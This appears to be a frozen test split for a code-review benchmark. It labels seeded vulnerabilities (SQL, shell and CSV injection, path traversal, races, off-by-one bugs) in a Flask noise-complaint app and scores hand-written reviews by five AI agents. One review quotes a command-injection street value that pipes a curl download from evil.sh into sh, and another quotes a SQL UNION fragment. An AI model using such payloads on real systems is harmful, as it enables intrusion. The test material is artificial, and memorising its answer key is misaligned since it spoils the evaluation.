"""test24/py-noisedesk: a municipal noise-complaint desk (Flask + SQLite). Frozen test split; labels next to each finding.

Written 2026-12-03 (UTC) by a helper session that had not seen the merger code, its results, the tuning set or any
other split's answers (only specs/tune2__py_snapctl.py, once, for the format).
"""

from build_answers import Answer, Block, F, P, U

LANGUAGE = "python"
ABOUT = (
    "Written 2026-12-03 (UTC) by a helper session that had not seen the merger code, its results or any other split's "
    "answers. Frozen test split test24: seeded problems in a small noise-complaint service; five agents' answers "
    "written by hand."
)

A = "noisedesk/app.py"
ST = "noisedesk/stats.py"
PROBLEMS = {
    "TOKEN-IN-QUERY": P(A, 'or request.args.get("token", "")', "security", "staff token also accepted from the query string (logged by proxies, shared in links)"),
    "TOKEN-TIMING": P(A, "if not STAFF_TOKEN or token != STAFF_TOKEN:", "security", "staff token compared with != (not constant time)"),
    "RATE-XFF": P(A, 'client = request.headers.get("X-Forwarded-For"', "security", "rate limit keyed on the client-supplied X-Forwarded-For header: trivially bypassed"),
    "RATE-RACE": P(A, "_recent[client] = seen + 1", "bug", "read-modify-write of the per-client counter without _recent_lock from request threads", "critical-section"),
    "NIGHT-BOUNDARY": P(A, "return ts.hour > QUIET_START or ts.hour < QUIET_END", "bug", "hour > 22 instead of >= 22: the 22:00-22:59 hour is not counted as night-time", "off-by-one"),
    "ESCALATE-THRESHOLD": P(A, "if prior > ESCALATE_AT:", "bug", "count includes the new complaint; > 3 escalates on the fourth, not the third complaint", "off-by-one"),
    "SEARCH-SQLI": P(A, "WHERE street LIKE '%{street}%'", "security", "street query value formatted into the SQL text", "source-vs-sink"),
    "SORT-INJECTION": P(A, 'f" ORDER BY {sort} LIMIT', "security", "sort query value formatted into ORDER BY; SORTABLE is never checked"),
    "PAGE-OFFSET": P(A, "OFFSET {page * PAGE_SIZE}", "bug", "pages are 1-based but OFFSET is page * size: the first page is never returned", "off-by-one"),
    "PII-PUBLIC": P(A, "return jsonify(dict(row))", "security", "unauthenticated GET by sequential id returns the complainant's name and phone"),
    "UPDATE-COLUMN-INJECTION": P(A, 'db().execute(f"UPDATE complaints SET {column} = ?', "security", "JSON keys used as column names in the UPDATE (SQL injection, any column writable)", "source-vs-sink"),
    "WITHDRAW-NO-CHECK": P(A, "SET status = 'withdrawn' WHERE id = ?", "security", "anyone can withdraw any complaint: the phone is read but never compared"),
    "RECORDING-TRAVERSAL": P(A, "audio.save(target)", "security", "uploaded file name joined into the path unsanitised: ../ writes outside UPLOADS", "source-vs-sink"),
    "RECORDING-NO-LIMIT": P(A, "audio.save(target)", "security", "no size limit or type check on the uploaded recording (MAX_CONTENT_LENGTH unset)"),
    "RECORDING-DOWNLOAD-TRAVERSAL": P(A, "return send_file(os.path.join(UPLOADS, name)", "security", "<path:name> joined to UPLOADS and sent: any readable file can be downloaded, no auth", "signature-vs-statement"),
    "NOTICE-SHELL": P(A, 'subprocess.run(f"wkhtmltopdf', "security", "street and house number (resident input) in a shell=True command line", "signature-vs-statement"),
    "NOTICE-TMP": P(A, 'out = f"/tmp/notice-{cid}.pdf"', "security", "predictable /tmp file name for the notice PDF (symlink / another user's file)"),
    "STATS-STAMPEDE": P(A, "stats = compute_ward_stats(db(), ward)", "performance", "cache check and fill not atomic: concurrent misses all recompute, dict written from many threads", "critical-section"),
    "STATS-UNBOUNDED": P(A, "_stats_cache[ward] = (time.time(), stats)", "performance", "any ward string is cached forever: unbounded memory growth"),
    "P90-INDEX": P(ST, '"p90_db": levels[round(len(levels) * 0.9)]', "bug", "round(n * 0.9) can equal n (e.g. n=2): IndexError", "off-by-one"),
    "CSV-INJECTION": P(A, "writer.writerow(list(r))", "security", "resident-supplied name written to the CSV unescaped (formula injection)"),
    "METER-SIG-TIMING": P(A, "if not METER_KEY or sig != expected:", "security", "meter HMAC compared with != instead of hmac.compare_digest"),
    "METER-REPLAY": P(A, "expected = hmac.new(METER_KEY, request.get_data()", "security", "signature covers only the body, no timestamp or nonce: a captured batch can be replayed (extra, one agent)"),
}

CONFUSABLE = [
    ("TOKEN-IN-QUERY", "TOKEN-TIMING"),
    ("RATE-XFF", "RATE-RACE"),
    ("SEARCH-SQLI", "SORT-INJECTION"),
    ("SORT-INJECTION", "PAGE-OFFSET"),
    ("SEARCH-SQLI", "PAGE-OFFSET"),
    ("RECORDING-TRAVERSAL", "RECORDING-NO-LIMIT"),
    ("NOTICE-SHELL", "NOTICE-TMP"),
    ("STATS-STAMPEDE", "STATS-UNBOUNDED"),
    ("METER-REPLAY", "METER-SIG-TIMING"),
]

ANSWERS = {
    "claude": Answer("claude", "rel", [
        """
        ## Review

        `noisedesk` is a small Flask service: residents file complaints and upload recordings, staff search,
        patch and export them, and sound meters post signed batches. Parameterised queries are used in most
        places, but the staff search and the PATCH endpoint build SQL from request values, and several
        resident-facing endpoints have no authorisation at all.

        | Priority | Area | Issue |
        |---|---|---|
        | 1 | `/complaints` search | SQL built from `street` and `sort` |
        | 2 | `/recordings/<path>` and recording upload | path traversal both ways |
        | 3 | `render_notice` | shell command built from a resident's address |
        | 4 | `PATCH /complaints/<id>` | column names from the request body |
        | 5 | rate limiting, ward stats cache | shared dicts mutated without the lock |
        | 6 | night-time and escalation rules | boundaries off by one |
        """,
        Block([
            F("SEARCH-SQLI", "critical", "security", "SQL injection through the `street` search parameter",
              "Bind the pattern: `WHERE street LIKE ?` with `(f\"%{street}%\",)`.",
              symbol="search_complaints", conf=0.95),
            F("SORT-INJECTION", "high", "security", "`sort` is interpolated into `ORDER BY` even though `SORTABLE` exists",
              "Reject values not in `SORTABLE` (400) before building the query.",
              symbol="search_complaints", conf=0.9),
            F("PAGE-OFFSET", "medium", "bug", "Pagination skips the first page",
              "`page` defaults to 1, so the offset should be `(page - 1) * PAGE_SIZE`; today page 1 returns rows 26-50.",
              symbol="search_complaints", conf=0.85),
            F("UPDATE-COLUMN-INJECTION", "high", "security", "PATCH uses request keys as column names",
              "Whitelist the editable columns (`status`, `level_db`, ...) and reject anything else; as written a key can inject SQL or overwrite `phone`/`name`.",
              symbol="update_complaint", conf=0.9),
            F("RECORDING-DOWNLOAD-TRAVERSAL", "high", "security", "`/recordings/<path:name>` serves arbitrary files",
              "Use `send_from_directory(UPLOADS, name)` and require staff auth; recordings are personal data too.",
              symbol="get_recording", conf=0.9),
            F("RECORDING-TRAVERSAL", "high", "security", "Recording upload trusts the client's file name",
              "Store under a generated name (`f\"{cid}-{uuid4().hex}.mp3\"`) or at least `secure_filename(audio.filename)`.",
              d=-1, symbol="upload_recording", conf=0.85),
            F("NOTICE-SHELL", "high", "security", "Command injection in notice rendering",
              "`street`/`house_no` come from the resident's complaint; pass an argv list without `shell=True` and URL-encode the query.",
              symbol="render_notice", conf=0.85),
            F("NOTICE-TMP", "low", "security", "Notice PDFs written to a predictable path in /tmp",
              "Use `tempfile.mkstemp(suffix=\".pdf\")` or a private output directory.",
              symbol="render_notice", conf=0.6),
            F("PII-PUBLIC", "high", "security", "Complaint details, including name and phone, are public",
              "Require staff auth on `GET /complaints/<id>` or drop `name`/`phone` from the response; ids are sequential.",
              symbol="get_complaint", conf=0.85),
            F("WITHDRAW-NO-CHECK", "medium", "security", "Any caller can withdraw any complaint",
              "Compare the submitted `phone` with the stored one (constant time) before changing the status.",
              symbol="withdraw_complaint", conf=0.8),
            F("RATE-RACE", "medium", "bug", "Rate-limit counter is updated without `_recent_lock`",
              "Take `_recent_lock` around the get/increment; gunicorn threads can lose increments.",
              d=-1, n=2, symbol="over_limit", conf=0.7),
            F("RATE-XFF", "medium", "security", "Rate limit keyed on `X-Forwarded-For`",
              "Use `request.remote_addr` behind a configured `ProxyFix`; clients can send any header value.",
              symbol="over_limit", conf=0.8),
            F("STATS-STAMPEDE", "low", "performance", "Ward stats cache is filled without synchronisation",
              "Guard the check-and-fill with a lock (or per-ward lock) so concurrent misses compute once.",
              d=-3, symbol="ward_stats", conf=0.6),
            F("NIGHT-BOUNDARY", "medium", "bug", "22:00-22:59 is not treated as night-time",
              "Use `ts.hour >= QUIET_START`.", symbol="is_night", conf=0.85),
            F("ESCALATE-THRESHOLD", "medium", "bug", "Escalation fires on the fourth complaint, not the third",
              "The count already includes the complaint just inserted; use `prior >= ESCALATE_AT`.",
              symbol="submit_complaint", conf=0.8),
            F("TOKEN-TIMING", "low", "security", "Staff token compared with `!=`",
              "Use `hmac.compare_digest(token, STAFF_TOKEN)`.", symbol="require_staff.wrapper", conf=0.6),
        ]),
    ]),
    "codex": Answer("codex", "rel", [
        "Reviewed noisedesk/app.py, stats.py, notify.py (264 lines); 10 findings, most severe first.",
        Block([
            F("SEARCH-SQLI", "critical", "security", "SQLi: street param concatenated into LIKE clause",
              "Bind parameters.", d=-2),
            F("UPDATE-COLUMN-INJECTION", "high", "security", "PATCH /complaints/<id>: arbitrary column names from body",
              "Allow-list columns.", d=-2),
            F("RECORDING-TRAVERSAL", "high", "security", "Upload path built from audio.filename",
              "secure_filename / generated name.", d=-1),
            F("RECORDING-DOWNLOAD-TRAVERSAL", "high", "security", "get_recording: path traversal via <path:name>",
              "send_from_directory.", d=-1),
            F("NOTICE-SHELL", "high", "security", "render_notice runs wkhtmltopdf through a shell with address fields",
              "argv list, no shell.", d=-2),
            F("SORT-INJECTION", "high", "security", "ORDER BY takes raw sort param", "Check against SORTABLE."),
            F("RATE-RACE", "medium", "bug", "over_limit: unsynchronised counter increment", "Hold _recent_lock.", d=-1),
            F("TOKEN-IN-QUERY", "medium", "security", "Staff token accepted via ?token=", "Header only."),
            F("P90-INDEX", "medium", "bug", "p90 index can be out of range (round)",
              "min(len(levels) - 1, int(len(levels) * 0.9))."),
            F("PAGE-OFFSET", "low", "bug", "OFFSET uses page, not page - 1", "(page - 1) * PAGE_SIZE."),
        ], fence=None, indent=None),
    ]),
    "gemini": Answer("gemini", "abs", [
        """
        Of course! I've completed a thorough review of the noise complaint desk application. This Flask
        service handles complaint submission, staff triage, audio recordings from residents, notice
        generation and ingestion of readings from networked sound meters.

        **Overall assessment:** the application handles sensitive personal data (names and phone numbers of
        residents who report their neighbours) and exposes several endpoints without authentication. There
        are multiple injection vulnerabilities, including SQL injection and OS command injection, that must
        be fixed before this service is deployed.

        ### Security findings
        """,
        Block([
            F("SEARCH-SQLI", "CRITICAL", "SQL Injection", "SQL Injection in Complaint Search",
              "Use parameterized queries for the LIKE pattern.", d=-1, sd=0,
              desc="The `street` parameter is embedded directly into the SQL string using an f-string. An attacker with a staff token can exfiltrate the whole database, e.g. `street=' UNION SELECT ...--`."),
            F("SORT-INJECTION", "HIGH", "SQL Injection", "Unvalidated ORDER BY Clause",
              "Validate `sort` against the existing SORTABLE set.",
              desc="The `sort` parameter is placed into the ORDER BY clause without validation, although a SORTABLE allow-list is defined and never used."),
            F("NOTICE-SHELL", "CRITICAL", "Command Injection", "OS Command Injection in render_notice",
              "Use `subprocess.run([...])` with a list and `shell=False`.",
              desc="Address fields come from residents' complaints and are inserted into a shell command. A street named `x'; curl evil.sh | sh; '` executes on the server when staff issue a notice."),
            F("RECORDING-DOWNLOAD-TRAVERSAL", "HIGH", "Path Traversal", "Arbitrary File Read via Recording Endpoint",
              "Use `send_from_directory` and add authentication.", d=-2),
            F("RECORDING-TRAVERSAL", "HIGH", "Path Traversal", "Arbitrary File Write via Uploaded Filename",
              "Sanitize the filename with `werkzeug.utils.secure_filename`.", d=-2, sd=-2, n=2),
            F("RECORDING-NO-LIMIT", "MEDIUM", "Denial of Service", "Unrestricted File Upload",
              "Set `MAX_CONTENT_LENGTH` and validate the file type.",
              desc="There is no limit on the size or type of uploaded recordings; an attacker can fill the disk."),
            F("PII-PUBLIC", "HIGH", "Information Disclosure", "Insecure Direct Object Reference Exposes Complainant PII",
              "Restrict this endpoint to staff."),
            F("METER-REPLAY", "MEDIUM", "Broken Authentication", "Meter Readings Can Be Replayed",
              "Include a timestamp or nonce in the signed payload and reject old batches.",
              desc="The HMAC is computed over the raw body only; a captured request can be resent indefinitely to inflate readings."),
            F("METER-SIG-TIMING", "LOW", "Cryptography", "Non-Constant-Time Signature Comparison",
              "Use `hmac.compare_digest`."),
            F("CSV-INJECTION", "LOW", "CSV Injection", "CSV Formula Injection in Export",
              "Prefix cells starting with =, +, - or @ with a single quote.", d=-1, sd=0),
        ], wrap="list"),
        """
        ### Logic and concurrency findings
        """,
        Block([
            F("STATS-STAMPEDE", "Medium", "Race Condition", "Cache Stampede in Ward Statistics",
              "Use a lock so only one thread computes the statistics for a ward.",
              desc="Concurrent requests for an uncached ward will all run the expensive aggregation query at the same time."),
            F("STATS-UNBOUNDED", "Medium", "Denial of Service", "Unbounded Growth of the Statistics Cache",
              "Validate the ward against the known wards or use an LRU cache."),
            F("NIGHT-BOUNDARY", "Medium", "Business Logic", "Incorrect Night-Time Boundary",
              "Use `>=` for the start hour.", d=-1),
            U({"severity": "Low", "category": "Best Practice", "description": "Consider adding type hints and docstrings to all route handlers."}),
        ], wrap="list"),
    ]),
    "opencode": Answer("opencode", "dot", [
        "found these:",
        Block([
            F("SEARCH-SQLI", "error", "security", "sql injection in search (street)", "use ? placeholders"),
            F("NOTICE-SHELL", "error", "security", "shell injection in render_notice", "no shell=True"),
            F("RECORDING-DOWNLOAD-TRAVERSAL", "error", "security", "path traversal on /recordings", "send_from_directory"),
            F("RATE-XFF", "warning", "", "rate limit uses x-forwarded-for, spoofable", "use remote_addr"),
            F("ESCALATE-THRESHOLD", "warning", "bug", "escalation one complaint late", "prior >= ESCALATE_AT", d=+1, sd=0, n=2),
        ], fence=None, indent=None),
    ]),
    "qwen": Answer("qwen", "rel", [
        """
        ## Code Review Report

        ### Overview
        Flask application for municipal noise complaints (`noisedesk`). I found 12 issues.

        ### Summary
        1. SQL injection in complaint search and in the PATCH endpoint.
        2. Path traversal in recording upload and download.
        3. Missing authorization on complaint details and withdrawal.
        4. Thread-safety problems in the rate limiter and the statistics cache.
        5. Boundary errors in pagination, night-time detection and percentile calculation.
        6. Weak token and signature comparisons.
        """,
        Block([
            F("SEARCH-SQLI", "blocker", "security", "SQL injection via street filter",
              "Use query parameters.", conf=0.9),
            F("UPDATE-COLUMN-INJECTION", "blocker", "security", "Unvalidated column names in complaint update",
              "Allow only known columns.", conf=0.85),
            F("RECORDING-TRAVERSAL", "major", "security", "Path traversal in recording upload",
              "Sanitize the filename.", conf=0.8),
            F("RECORDING-DOWNLOAD-TRAVERSAL", "major", "security", "Path traversal in recording download",
              "Validate the resolved path.", conf=0.85),
            F("PII-PUBLIC", "major", "security", "Complaint endpoint leaks personal data without authentication",
              "Require staff token.", d=-3, conf=0.8),
            F("WITHDRAW-NO-CHECK", "major", "security", "Complaint withdrawal is not authorized",
              "Verify the phone number matches the complaint.", d=-1, conf=0.75),
            F("RATE-RACE", "major", "concurrency", "Race condition in rate limiter counter",
              "Use _recent_lock when reading and updating _recent.", d=+1, conf=0.7),
            F("STATS-STAMPEDE", "minor", "concurrency", "Statistics cache is not thread-safe",
              "Protect _stats_cache with a lock.", d=+1, conf=0.6),
            F("PAGE-OFFSET", "major", "correctness", "Off-by-one in pagination offset",
              "Subtract one from the page number.", d=-1, n=2, conf=0.8),
            F("NIGHT-BOUNDARY", "minor", "correctness", "Night-time check excludes 22:00",
              "Compare with >=.", conf=0.8),
            F("P90-INDEX", "minor", "correctness", "Percentile index may exceed list length",
              "Clamp the index to len(levels) - 1.", d=-1, n=2, conf=0.7),
            F("TOKEN-TIMING", "minor", "security", "Timing attack on staff token comparison",
              "Use hmac.compare_digest.", conf=0.6),
        ], wrap="object+summary", summary="12 issues: 2 blocker, 6 major, 4 minor"),
    ]),
}
